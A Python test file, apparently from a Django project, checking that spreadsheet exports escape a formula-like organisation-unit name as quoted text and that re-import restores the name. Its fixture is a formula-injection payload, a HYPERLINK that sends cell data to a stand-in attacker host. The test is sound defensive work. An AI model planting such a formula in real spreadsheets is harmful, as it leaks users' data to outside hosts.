"""The admin's sheet exports write a name that looks like a formula as quoted text, and the
import reads it back as it was typed (core.exports)."""

import csv
import io

from openpyxl import load_workbook

from imports import services
from organization.models import OrgUnit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_org_sheet_export_keeps_a_formula_like_name_as_text_and_reimports_it(district):
    unit = OrgUnit.objects.get(code="JK-S1-C01")
    OrgUnit.objects.filter(pk=unit.pk).update(name=HYPERLINK)

    data = services.sheet_export(kind="org", fmt="xlsx")
    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    named = [c for c in texts if c.value.lstrip("'").startswith("=HYPERLINK")]
    assert named and all(c.data_type == "s" and c.value == "'" + HYPERLINK for c in named)
    assert not any(c.value.startswith("=") for c in texts)
    assert not any(c.data_type == "f" for c in cells)

    text = services.sheet_export(kind="org", fmt="csv").decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text)) for v in row]
    assert "'" + HYPERLINK in values
    assert not any(v.startswith("=") for v in values)

    result = services.sheet_import_file(kind="org", data=data, dry_run=False)
    assert services.result_ok(result), result.problems[:3]
    assert OrgUnit.objects.get(pk=unit.pk).name == HYPERLINK
